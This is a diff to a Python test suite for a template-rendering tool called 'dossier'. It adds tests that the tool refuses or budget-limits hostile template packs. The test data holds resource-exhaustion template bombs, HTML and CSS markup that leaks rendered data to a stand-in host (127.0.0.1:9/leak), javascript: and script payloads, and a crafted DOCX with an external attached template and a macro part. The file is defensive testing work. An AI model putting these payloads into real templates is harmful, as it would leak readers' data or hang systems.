@@ -29,13 +29,15 @@ from dossier.render.pdf import render_pdf
 SECRET = "secret-outside-the-pack-7f3a"
 
 
-def pack(folder: Path, body: str = "<p>pack</p>", lang: str = "fr") -> Path:
-    """A template pack overriding the cover of the ``ddd`` layout with ``body`` (line 3)."""
-    (folder / lang).mkdir(parents=True, exist_ok=True)
-    (folder / lang / "ddd.html").write_text(
-        '{% extends "default:ddd.html" %}\n{% block cover %}\n' + body + "\n{% endblock %}\n",
-        encoding="utf-8",
-    )
+def pack(folder: Path, body: str = "<p>pack</p>") -> Path:
+    """A template pack overriding the cover of the ``ddd`` layout with ``body`` (line 3), in
+    both languages."""
+    for lang in ("fr", "en"):
+        (folder / lang).mkdir(parents=True, exist_ok=True)
+        (folder / lang / "ddd.html").write_text(
+            '{% extends "default:ddd.html" %}\n{% block cover %}\n' + body + "\n{% endblock %}\n",
+            encoding="utf-8",
+        )
     return folder
 
 
@@ -171,3 +173,290 @@ def test_the_preview_serves_nothing_outside_the_pack_assets(
     (templates / "assets" / "style.css").write_text("p { color: red }")
     assert fetch(server, "/dossier.toml")[0] == 404
     assert fetch(server, "/style.css") == (200, "p { color: red }")
+
+
+# -- 5. every render runs under a budget of steps, seconds and memory ------------------------------
+
+BOMBS = {
+    "nested_range": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}"
+    "{% endfor %}",
+    "doubling": "{% set ns = namespace(s='x') %}{% for i in range(64) %}"
+    "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s | length }}",
+    "adding": "{% set ns = namespace(s=['x']) %}{% for i in range(64) %}"
+    "{% set ns.s = ns.s + ns.s %}{% endfor %}{{ ns.s | length }}",
+    "repeat": "{{ ('x' * 10**9) | length }}",
+    "appending": "{% set l = [] %}{% for i in range(100000) %}{% set _ = l.append('x' * 1000000) %}"
+    "{% endfor %}{{ l | length }}",
+    "macro": "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}"
+    "{{ m(40) }}",
+    "format": "{{ '%999999999s' | format('a') | length }}",
+    "join": "{{ range(100000) | join('x' * 100000) | length }}",
+}
+BOMB_SAYS = {
+    "nested_range": "steps",
+    "doubling": "characters, beyond the 50,000,000",
+    "adding": "characters, beyond the 50,000,000",
+    "repeat": "repetition beyond",
+    "appending": "MiB of memory",
+    "macro": "steps",
+    "format": "too large for a template",
+    "join": "too large",
+}
+
+
+@pytest.mark.parametrize("bomb", sorted(BOMBS))
+def test_a_template_that_loops_or_grows_stops_fast_with_its_file_and_line(
+    tmp_path: Path, bomb: str
+) -> None:
+    """In a child limited to 1.5 GiB of address space: one line, the template and line, in
+    seconds, never a hang, a MemoryError or a kill."""
+    from test_security_input import run_dossier
+
+    data = write_dataset(tmp_path / "data")
+    templates = pack(tmp_path / "pack", BOMBS[bomb])
+    out = tmp_path / "out"
+    code, _stdout, stderr, seconds = run_dossier(
+        "build", data, "--templates", templates, "--out", out, "--lang", "en", "--format",
+        "html", timeout=120,
+    )  # fmt: skip
+    assert code == 1, (code, stderr[-1500:])
+    lines = [line for line in stderr.splitlines() if line.strip()]
+    assert len(lines) == 1 and "Traceback" not in stderr, stderr[-1500:]
+    assert f"{templates / 'en' / 'ddd.html'}, line 3" in lines[0], lines[0]
+    assert BOMB_SAYS[bomb] in lines[0], lines[0]
+    assert seconds < 45, seconds
+    assert not out.exists()
+
+
+def test_templates_check_and_the_preview_run_under_the_budget_too(
+    tmp_path: Path, serve: Callable[..., PreviewServer]
+) -> None:
+    data = write_dataset(tmp_path / "data")
+    templates = pack(tmp_path / "pack", BOMBS["nested_range"])
+    started = time.monotonic()
+    result = run_cli(["templates", "check", templates, "--lang", "en"])
+    assert result.exit_code == 1, result.output
+    assert f"{templates / 'fr' / 'ddd.html'}:3" in result.output, result.output
+    assert "steps" in result.output
+    server = serve(data, templates=templates, lang="en")
+    status, page = fetch(server, "/")
+    assert status == 500 and "steps (loop turns and calls)" in page, page[-1500:]
+    assert fetch(server, "/_preview/version")[0] == 200
+    assert time.monotonic() - started < 120
+
+
+# -- 2. nothing in a dossier's markup fetches, navigates or runs at the reader's end ---------------
+
+LEAK = "http://127.0.0.1:9/leak?d="
+OUTWARD = {
+    "img": f'<img src="{LEAK}{{{{ d.incidents[0].summary }}}}" alt="x">',
+    "meta_refresh": f'<meta http-equiv="refresh" content="1;url={LEAK}{{{{ d.reference }}}}">',
+    "base": '<base href="http://127.0.0.1:9/">',
+    "form": '<form action="/x"><p>x</p></form>',
+    "iframe": '<iframe src="about:blank"></iframe>',
+    "object": '<object data="x.pdf"></object>',
+    "embed": '<embed src="x.swf">',
+    "script": "<script>fetch('/x')</script>",
+    "handler": '<p onclick="x()">x</p>',
+    "style_attribute": f'<p style="background: url({LEAK}x)">x</p>',
+    "style_escaped": '<p style="background: u\\72l(http://127.0.0.1:9/x)">x</p>',
+    "style_import": '<style>@import "https://example.org/x.css";</style>',
+    "link": '<link rel="stylesheet" href="https://example.org/x.css">',
+    "attachment": '<link rel="attachment" href="dossier.css">',
+    "srcset": '<img src="a.png" srcset="a.png 1x, https://example.org/b.png 2x" alt="x">',
+    "entities": '<img src="&#104;ttp://127.0.0.1:9/x" alt="x">',
+    "tab": '<img src="ht\ttp://127.0.0.1:9/x" alt="x">',
+    "scheme_relative": '<img src="//127.0.0.1:9/x" alt="x">',
+    "ping": '<a href="#x" ping="https://example.org/">x</a>',
+    "javascript": '<a href="javascript:fetch(1)">x</a>',
+    "svg_image": '<svg><image href="https://example.org/x.png"/></svg>',
+}
+
+
+@pytest.mark.parametrize("case", sorted(OUTWARD))
+def test_markup_that_reaches_out_fails_the_build_at_its_file_and_line(
+    tmp_path: Path, case: str
+) -> None:
+    templates = pack(tmp_path / "pack", OUTWARD[case])
+    with pytest.raises(BuildError) as refused:
+        build(write_dataset(tmp_path / "data"), templates, tmp_path / "out")
+    said = str(refused.value)
+    assert f"{templates / 'fr' / 'ddd.html'}, line 3" in said, said
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_url_built_from_the_data_is_found_in_the_rendered_page(tmp_path: Path) -> None:
+    """The address is made at render time: only the rendered page shows it; the build still
+    names the template line that wrote it, and `templates check` the rendered page's line."""
+    body = (
+        "{% set scheme = 'ht' ~ 'tp' %}\n"
+        '<img src="{{ scheme }}://127.0.0.1:9/leak?d={{ d.incidents[0].id }}" alt="x">'
+    )
+    templates = pack(tmp_path / "pack", body)
+    with pytest.raises(BuildError) as refused:
+        build(write_dataset(tmp_path / "data"), templates, tmp_path / "out")
+    said = str(refused.value)
+    assert f"{templates / 'fr' / 'ddd.html'}, line 4" in said, said
+    assert "http://127.0.0.1:9/leak?d=" in said
+    result = run_cli(["templates", "check", templates, "--lang", "en"])
+    assert result.exit_code == 1, result.output
+    assert "rendered" in result.output and "127.0.0.1:9/leak" in result.output, result.output
+
+
+def test_plain_https_links_and_images_in_the_dossier_still_build(tmp_path: Path) -> None:
+    body = (
+        '<p><a href="https://www.legifrance.gouv.fr/loda/id/JORFTEXT000023781167">loi</a> '
+        '<a href="#faits">faits</a> <img src="data:image/png;base64,iVBORw0KGgo=" alt="x"> '
+        '<span style="color: red">x</span></p>'
+    )
+    templates = pack(tmp_path / "pack", body)
+    result = build(write_dataset(tmp_path / "data"), templates, tmp_path / "out")
+    page = result.outputs[0].path.read_text(encoding="utf-8")
+    assert "legifrance" in page
+
+
+def test_templates_check_names_the_file_and_line_of_each_url_out(tmp_path: Path) -> None:
+    templates = pack(tmp_path / "pack", OUTWARD["img"] + "\n" + OUTWARD["meta_refresh"])
+    result = run_cli(["templates", "check", templates, "--lang", "en"])
+    assert result.exit_code == 1, result.output
+    for lang in ("fr", "en"):
+        assert f"{templates / lang / 'ddd.html'}:3: <img src> leads out" in result.output
+        assert f"{templates / lang / 'ddd.html'}:4: <meta http-equiv" in result.output
+
+
+def test_the_preview_refuses_a_meta_refresh_and_sends_a_strict_policy(
+    tmp_path: Path, serve: Callable[..., PreviewServer]
+) -> None:
+    from dossier.render.markup import without_refresh
+
+    templates = pack(tmp_path / "pack", OUTWARD["meta_refresh"])
+    server = serve(write_dataset(tmp_path / "data"), templates=templates, lang="en")
+    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=30)
+    connection.request("GET", "/")
+    response = connection.getresponse()
+    page = response.read().decode()
+    policy = response.headers["Content-Security-Policy"]
+    connection.close()
+    assert response.status == 500 and "refresh" in page
+    assert 'http-equiv="refresh"' not in page.replace("&quot;", '"').split("<section")[0]
+    for directive in ("default-src 'none'", "form-action 'none'", "base-uri 'none'"):
+        assert directive in policy
+    assert without_refresh('<head><META HTTP-EQUIV=Refresh content="0;url=x"></head>') == (
+        "<head></head>"
+    )
+
+
+def reference_with(tmp_path: Path, extra: dict[str, str], types: str = "") -> Path:
+    """The built-in reference.docx with parts added or replaced."""
+    source = zipfile.ZipFile(builtin_templates_dir() / "reference.docx")
+    target = tmp_path / "reference.docx"
+    with source, zipfile.ZipFile(target, "w") as written:
+        for item in source.infolist():
+            data = source.read(item)
+            if item.filename in extra:
+                data = extra.pop(item.filename).encode()
+            if item.filename == "[Content_Types].xml" and types:
+                data = data.replace(b"</Types>", types.encode() + b"</Types>")
+            written.writestr(item, data)
+        for name, text in extra.items():
+            written.writestr(name, text)
+    return target
+
+
+RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def test_a_reference_document_with_an_attached_template_or_macros_is_refused(
+    tmp_path: Path,
+) -> None:
+    settings = zipfile.ZipFile(builtin_templates_dir() / "reference.docx").read("word/settings.xml")
+    attached = settings.decode().replace("<w:zoom", '<w:attachedTemplate r:id="rIdT"/><w:zoom', 1)
+    if 'xmlns:r="' not in attached.split(">", 2)[1]:
+        attached = attached.replace("<w:settings ", f'<w:settings xmlns:r="{OFFICE}" ', 1)
+    rels = (
+        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">'
+        f'<Relationship Id="rIdT" Type="{OFFICE}/attachedTemplate" '
+        'Target="http://127.0.0.1:9/Normal.dotm" TargetMode="External"/></Relationships>'
+    )
+    crafted = tmp_path / "pack"
+    pack(crafted)
+    reference_with(
+        crafted,
+        {
+            "word/settings.xml": attached,
+            "word/_rels/settings.xml.rels": rels,
+            "word/vbaProject.bin": "not really code",
+        },
+        types='<Override PartName="/word/vbaProject.bin" '
+        'ContentType="application/vnd.ms-office.vbaProject"/>',
+    )
+    with pytest.raises(DossierError) as refused:
+        build(write_dataset(tmp_path / "data"), crafted, tmp_path / "out", ("docx",))
+    said = str(refused.value)
+    assert "cannot be the reference document" in said, said
+    assert "attach a template" in said and "http://127.0.0.1:9/Normal.dotm" in said
+    assert "vbaProject" in said
+    assert not (tmp_path / "out").exists()
+    result = run_cli(["templates", "check", crafted, "--lang", "en"])
+    assert result.exit_code == 1
+    assert f"{crafted / 'reference.docx'}: " in result.output
+    assert "Normal.dotm" in result.output and "vbaProject" in result.output, result.output
+
+
+def test_the_builtin_reference_document_has_nothing_to_refuse() -> None:
+    from dossier.render.docx import reference_problems
+
+    data = (builtin_templates_dir() / "reference.docx").read_bytes()
+    assert reference_problems(data) == []
+
+
+# -- 4. the preview server cannot be hung ----------------------------------------------------------
+
+
+def timed_fetch(server: PreviewServer, path: str) -> tuple[int, str, float]:
+    started = time.monotonic()
+    status, body = fetch(server, path)
+    return status, body, time.monotonic() - started
+
+
+def test_a_pipe_or_a_device_in_the_evidence_folder_does_not_hang_the_preview(
+    tmp_path: Path, serve: Callable[..., PreviewServer]
+) -> None:
+    data = write_dataset(tmp_path / "data")
+    evidence = data / "evidence"
+    evidence.mkdir(exist_ok=True)
+    os.mkfifo(evidence / "pipe")
+    (evidence / "zero").symlink_to("/dev/zero")
+    server = serve(data, lang="en")
+    for path in ("/_preview/version", "/"):
+        status, body, seconds = timed_fetch(server, path)
+        assert status == 200, body[-1500:]
+        assert seconds < 20, (path, seconds)
+    # A change is still seen.
+    before = fetch(server, "/_preview/version")[1]
+    (data / "dossier.toml").write_text((data / "dossier.toml").read_text() + "\n# edited\n")
+    assert fetch(server, "/_preview/version")[1] != before
+
+
+def test_a_long_render_never_holds_the_server(
+    tmp_path: Path, serve: Callable[..., PreviewServer]
+) -> None:
+    templates = pack(tmp_path / "pack", BOMBS["nested_range"])
+    server = serve(write_dataset(tmp_path / "data"), templates=templates, lang="en")
+    server.preview.render_wait = 1.0
+    status, page, seconds = timed_fetch(server, "/")
+    assert status == 503 and "still being rendered" in page, (status, page[-1500:])
+    assert seconds < 15
+    # Meanwhile the server answers.
+    for path in ("/_preview/version", "/dossier.css"):
+        status, _body, seconds = timed_fetch(server, path)
+        assert status == 200 and seconds < 5, (path, status, seconds)
+    # The render is abandoned by its budget, with the mistake in the page.
+    deadline = time.monotonic() + 120
+    while True:
+        status, page, _seconds = timed_fetch(server, "/")
+        if status != 503 or time.monotonic() > deadline:
+            break
+    assert status == 500 and "steps (loop turns and calls)" in page, page[-1500:]
+    assert threading.active_count() < 50
